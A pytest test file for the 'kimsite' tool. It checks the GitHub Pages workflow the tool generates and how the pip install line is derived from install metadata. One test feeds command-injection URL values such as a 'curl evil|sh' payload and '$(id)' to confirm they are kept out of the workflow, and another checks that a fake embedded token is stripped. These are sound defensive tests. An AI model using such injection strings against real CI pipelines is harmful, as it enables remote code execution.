"""The GitHub Pages workflow that `kimsite init` writes: valid, complete, and its steps work."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from packaging.requirements import Requirement

from kimsite.cli import main
from kimsite.commands.deploy import ACTIONS, WORKFLOW_PATH, workflow_text, write_workflow
from kimsite.commands.install_source import detect

TEST_PAGES_URL = "https://pengguna.github.io/kim"  # what actions/configure-pages reports


def _load(path: Path) -> dict:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def _steps(workflow: dict, job: str = "build") -> list[dict]:
    return workflow["jobs"][job]["steps"]


def _tool_env() -> dict[str, str]:
    """PATH with this Python's scripts first, so `kimsite` is the package under test."""
    env = dict(os.environ)
    env["PATH"] = str(Path(sys.executable).parent) + os.pathsep + env.get("PATH", "")
    env.pop("KIMSITE_LANG", None)
    return env


@pytest.fixture
def workflow_file(tmp_path) -> Path:
    write_workflow(tmp_path, "id")
    return tmp_path / WORKFLOW_PATH


def test_workflow_validates_against_github_schema(workflow_file):
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                           str(workflow_file)], capture_output=True, text=True, env=_tool_env())
    assert done.returncode == 0, done.stdout + done.stderr


def test_schema_check_rejects_a_broken_workflow(tmp_path, workflow_file):
    """The schema test can fail: a job without runs-on is refused."""
    broken = tmp_path / "broken.yml"
    broken.write_text(workflow_file.read_text().replace("    runs-on: ubuntu-latest\n", "", 1))
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                           str(broken)], capture_output=True, text=True, env=_tool_env())
    assert done.returncode == 1


def test_workflow_triggers_permissions_and_concurrency(workflow_file):
    workflow = _load(workflow_file)
    assert set(workflow["on"]) == {"push", "schedule", "workflow_dispatch"}
    assert workflow["on"]["push"]["branches"] == ["main"]
    cron = workflow["on"]["schedule"][0]["cron"]
    assert cron.split()[1] == "*/6"  # every 6 hours: the portal picks up remote KIMs' posts
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert workflow["concurrency"]["group"] == "pages"


def test_workflow_build_steps_in_order(workflow_file):
    steps = _steps(_load(workflow_file))
    uses = [step.get("uses", "") for step in steps]
    runs = [step.get("run", "") for step in steps]
    for name in ("CHECKOUT", "SETUP_PYTHON", "CACHE", "CONFIGURE_PAGES", "UPLOAD_ARTIFACT"):
        assert ACTIONS[name] in uses, name
        assert re.fullmatch(r"actions/[a-z-]+@v\d+", ACTIONS[name])

    def index(predicate) -> int:
        return next(i for i, step in enumerate(steps) if predicate(step))

    checkout = index(lambda s: s.get("uses", "").startswith("actions/checkout@"))
    python = index(lambda s: s.get("uses", "").startswith("actions/setup-python@"))
    install = index(lambda s: "pip install" in s.get("run", ""))
    cache = index(lambda s: s.get("uses", "").startswith("actions/cache@"))
    fetch = index(lambda s: "kimsite fetch" in s.get("run", ""))
    check = index(lambda s: "kimsite check" in s.get("run", ""))
    pages = index(lambda s: s.get("uses", "").startswith("actions/configure-pages@"))
    build = index(lambda s: "kimsite build" in s.get("run", ""))
    upload = index(lambda s: s.get("uses", "").startswith("actions/upload-pages-artifact@"))
    assert checkout < python < install < cache < fetch < check < pages < build < upload

    assert steps[python]["with"]["python-version"] == "3.11"
    assert runs[install].strip() == f"pip install {detect().pip_argument}"
    cached = steps[cache]["with"]
    assert set(cached["path"].split()) == {".kimsite/", "feeds/"}
    assert "hashFiles('content/**', 'sites/**'" in cached["key"]
    assert cached["restore-keys"].strip()
    for line in cached["restore-keys"].split("\n"):
        assert not line or cached["key"].startswith(line.strip())
    assert "kimsite check --format github" in runs[check]
    assert steps[pages]["id"] == "pages"
    assert '--base-url "${{ steps.pages.outputs.base_url }}/"' in runs[build]
    assert steps[upload]["with"]["path"] == "_site"


def test_workflow_deploy_job(workflow_file):
    workflow = _load(workflow_file)
    deploy = workflow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["environment"]["name"] == "github-pages"
    assert deploy["environment"]["url"] == "${{ steps.deployment.outputs.page_url }}"
    (step,) = deploy["steps"]
    assert step["uses"] == ACTIONS["DEPLOY_PAGES"] and step["id"] == "deployment"


def test_workflow_follows_the_repository_branch(tmp_path):
    subprocess.run(["git", "init", "-q", "-b", "utama", str(tmp_path)], check=True)
    write_workflow(tmp_path, "id")
    assert _load(tmp_path / WORKFLOW_PATH)["on"]["push"]["branches"] == ["utama"]


def test_init_writes_workflow_and_ci_never_overwrites(tmp_path):
    runner = CliRunner()
    site = tmp_path / "situs"
    done = runner.invoke(main, ["init", str(site), "--lang", "id"])
    assert done.exit_code == 0, done.output
    assert (site / WORKFLOW_PATH).read_text(encoding="utf-8") == workflow_text("main")
    assert WORKFLOW_PATH in done.output

    (site / WORKFLOW_PATH).write_text("# versi saya sendiri\n", encoding="utf-8")
    again = runner.invoke(main, ["init", str(site), "--ci", "--lang", "id"])
    assert again.exit_code == 0
    assert "sudah ada" in again.output and WORKFLOW_PATH in again.output
    assert (site / WORKFLOW_PATH).read_text(encoding="utf-8") == "# versi saya sendiri\n"

    (site / WORKFLOW_PATH).unlink()
    added = runner.invoke(main, ["init", str(site), "--ci", "--lang", "en"])
    assert added.exit_code == 0 and "created: .github/workflows/pages.yml" in added.output
    assert (site / WORKFLOW_PATH).is_file()


def _run_steps(workspace: Path, workflow: dict) -> dict[str, subprocess.CompletedProcess]:
    """Run the build job's `run:` steps in order, as GitHub's runner would (bash -e), minus the
    actions themselves: no pip install (kimsite is installed), fetch recorded instead of run
    (no network in tests), the configure-pages output replaced by a test URL."""
    results = {}
    for step in _steps(workflow):
        script = step.get("run")
        if script is None:
            continue
        if script.strip().startswith("pip install"):
            continue
        script = script.replace("${{ steps.pages.outputs.base_url }}", TEST_PAGES_URL)
        script = script.replace("kimsite fetch", "echo fetched >> .fetch-ran")
        assert "${{" not in script, f"unhandled expression in step {step.get('name')}: {script}"
        done = subprocess.run(["bash", "-e", "-c", script], cwd=workspace, capture_output=True, text=True,
                              env=_tool_env(), timeout=300)
        assert done.returncode == 0, f"step {step.get('name')!r} failed:\n{done.stdout}\n{done.stderr}"
        results[step.get("name", script)] = done
    return results


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in ("href", "src") and value:
                self.links.append(value)


def test_workflow_run_steps_work_on_the_demo(demo_copy):
    write_workflow(demo_copy, "id")
    workflow = _load(demo_copy / WORKFLOW_PATH)
    results = _run_steps(demo_copy, workflow)

    assert (demo_copy / ".fetch-ran").is_file(), "the demo has a remote KIM: fetch must run"
    check_name = next(s["name"] for s in _steps(workflow) if "kimsite check" in s.get("run", ""))
    check = results[check_name]
    assert "::error" not in check.stdout + check.stderr

    site = demo_copy / "_site"
    assert (site / "index.html").is_file() and (site / ".nojekyll").is_file()
    parser = _Links()
    parser.feed((site / "index.html").read_text(encoding="utf-8"))
    local = [link for link in parser.links if link.startswith("/")]
    assert local and all(link.startswith("/kim/") for link in local), local[:5]
    assert f"{TEST_PAGES_URL}/sitemap.xml" in (site / "robots.txt").read_text(encoding="utf-8")


def test_fetch_step_skipped_without_remote_kims(demo_copy):
    for site_file in (demo_copy / "sites").glob("*.yaml"):
        if re.search(r"^\s*(feed:|-\s*https?://)", site_file.read_text(encoding="utf-8"), re.M):
            site_file.unlink()
    write_workflow(demo_copy, "id")
    step = next(s for s in _steps(_load(demo_copy / WORKFLOW_PATH)) if "kimsite fetch" in s.get("run", ""))
    script = step["run"].replace("kimsite fetch", "echo fetched >> .fetch-ran")
    done = subprocess.run(["bash", "-e", "-c", script], cwd=demo_copy, capture_output=True, text=True)
    assert done.returncode == 0
    assert not (demo_copy / ".fetch-ran").exists()


# --- the install line follows how kimsite was installed (PEP 610 direct_url.json) ----------

COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def installed_as(tmp_path, monkeypatch):
    """Make kimsite look installed with the given direct_url.json (None: from the package index),
    through a real dist-info folder read by importlib.metadata."""
    from importlib import metadata

    import kimsite.commands.install_source as install_source

    def install(direct_url: dict | str | None, version: str = "9.8.7") -> None:
        dist_info = tmp_path / "site-packages" / f"kimsite-{version}.dist-info"
        dist_info.mkdir(parents=True)
        (dist_info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: kimsite\nVersion: {version}\n",
                                            encoding="utf-8")
        if direct_url is not None:
            text = direct_url if isinstance(direct_url, str) else json.dumps(direct_url)
            (dist_info / "direct_url.json").write_text(text, encoding="utf-8")
        found = metadata.PathDistribution(dist_info)
        monkeypatch.setattr(install_source.metadata, "distribution", lambda name: found)

    return install


def _init_ci(tmp_path: Path, lang: str = "id"):
    site = tmp_path / "situs"
    site.mkdir(exist_ok=True)
    done = CliRunner().invoke(main, ["init", str(site), "--ci", "--lang", lang])
    assert done.exit_code == 0, done.output
    workflow = _load(site / WORKFLOW_PATH)
    (line,) = [s["run"] for s in _steps(workflow) if "pip install" in s.get("run", "")]
    words = subprocess.run(["bash", "-c", 'for word in "$@"; do echo "$word"; done', "-", *shlex.split(line)],
                           capture_output=True, text=True, check=True).stdout.splitlines()
    assert words[:2] == ["pip", "install"] and len(words) == 3, line  # one requirement, one shell word
    return words[2], done.output, site


def test_installed_from_the_index_pins_the_version(tmp_path, installed_as):
    installed_as(None)
    requirement, output, _ = _init_ci(tmp_path)
    assert requirement == "kimsite==9.8.7"
    assert "peringatan" not in output


def test_installed_from_git_pins_the_commit(tmp_path, installed_as):
    installed_as({"url": "https://github.com/kim-contoh/kimsite.git",
                  "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}})
    requirement, output, site = _init_ci(tmp_path)
    assert requirement == f"kimsite @ git+https://github.com/kim-contoh/kimsite.git@{COMMIT}"
    parsed = Requirement(requirement)
    assert parsed.name == "kimsite" and parsed.url.endswith(COMMIT)
    assert "peringatan" not in output
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
                           str(site / WORKFLOW_PATH)], capture_output=True, text=True, env=_tool_env())
    assert done.returncode == 0, done.stdout + done.stderr


def test_installed_from_a_published_archive(tmp_path, installed_as):
    url = "https://example.org/rilis/kimsite-9.8.7-py3-none-any.whl"
    installed_as({"url": url, "archive_info": {"hashes": {"sha256": "ab" * 32}}})
    requirement, output, _ = _init_ci(tmp_path)
    assert requirement == f"kimsite @ {url}"
    assert "peringatan" not in output


@pytest.mark.parametrize("direct_url", [
    {"url": "file:///home/relawan/kimsite", "dir_info": {"editable": True}},  # pip install -e .
    {"url": "file:///home/relawan/kimsite", "dir_info": {}},  # pip install .
    {"url": "file:///tmp/dist/kimsite-9.8.7-py3-none-any.whl", "archive_info": {}},  # a local build
    {"url": "file:///home/relawan/kimsite", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},  # local clone
    "{not json",
], ids=["editable", "folder", "local-wheel", "local-git", "broken-metadata"])
def test_installed_from_this_machine_writes_the_workflow_and_warns(tmp_path, installed_as, direct_url):
    installed_as(direct_url)
    requirement, output, site = _init_ci(tmp_path)
    assert requirement == "kimsite==9.8.7"
    assert (site / WORKFLOW_PATH).is_file()
    assert "peringatan: kimsite ini dipasang dari sumber yang tidak dapat dipasang oleh GitHub" in output
    assert 'pip install "kimsite @ git+https://github.com/PEMILIK/kimsite@COMMIT"' in output
    if isinstance(direct_url, dict):
        assert "/home/relawan/kimsite" in output or "/tmp/dist/" in output
    (tmp_path / "en").mkdir()
    english = _init_ci(tmp_path / "en", "en")[1]
    assert "warning: this kimsite was installed from a source GitHub cannot install" in english


def test_unreleasable_version_from_an_index_warns(tmp_path, installed_as):
    installed_as(None, version="9.8.7+lokal")
    requirement, output, _ = _init_ci(tmp_path)
    assert requirement == "kimsite==9.8.7+lokal" and "peringatan" in output


def test_credentials_never_reach_the_workflow(tmp_path, installed_as):
    installed_as({"url": "https://relawan:ghp_RAHASIA@github.com/kim-contoh/kimsite",
                  "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    requirement, _, site = _init_ci(tmp_path)
    assert requirement == f"kimsite @ git+https://github.com/kim-contoh/kimsite@{COMMIT}"
    assert "RAHASIA" not in (site / WORKFLOW_PATH).read_text(encoding="utf-8")


def test_ssh_install_becomes_https(tmp_path, installed_as):
    installed_as({"url": "ssh://git@github.com/kim-contoh/kimsite.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    assert _init_ci(tmp_path)[0] == f"kimsite @ git+https://github.com/kim-contoh/kimsite.git@{COMMIT}"


@pytest.mark.parametrize("url", ['https://github.com/a/b";curl evil|sh;"', "https://github.com/a/b$(id)",
                                 "https://github.com/a/b\n  run: curl evil", "https://github.com/a/b #x"])
def test_a_hostile_url_is_not_written_into_the_workflow(tmp_path, installed_as, url):
    installed_as({"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    requirement, output, site = _init_ci(tmp_path)
    assert requirement == "kimsite==9.8.7" and "peringatan" in output
    text = (site / WORKFLOW_PATH).read_text(encoding="utf-8")
    assert "evil" not in text and "$(id)" not in text


def test_a_branch_name_is_not_a_commit(tmp_path, installed_as):
    installed_as({"url": "https://github.com/kim-contoh/kimsite", "vcs_info": {"vcs": "git", "commit_id": "main"}})
    requirement, output, _ = _init_ci(tmp_path)
    assert requirement == "kimsite==9.8.7" and "peringatan" in output


def test_run_from_a_source_tree_without_installing_warns(tmp_path, monkeypatch):
    from importlib import metadata

    import kimsite.commands.install_source as install_source

    def missing(name):
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(install_source.metadata, "distribution", missing)
    requirement, output, _ = _init_ci(tmp_path)
    assert requirement == f"kimsite=={install_source.__version__}"
    import kimsite

    assert "peringatan" in output and str(Path(kimsite.__file__).resolve().parent.parent) in output
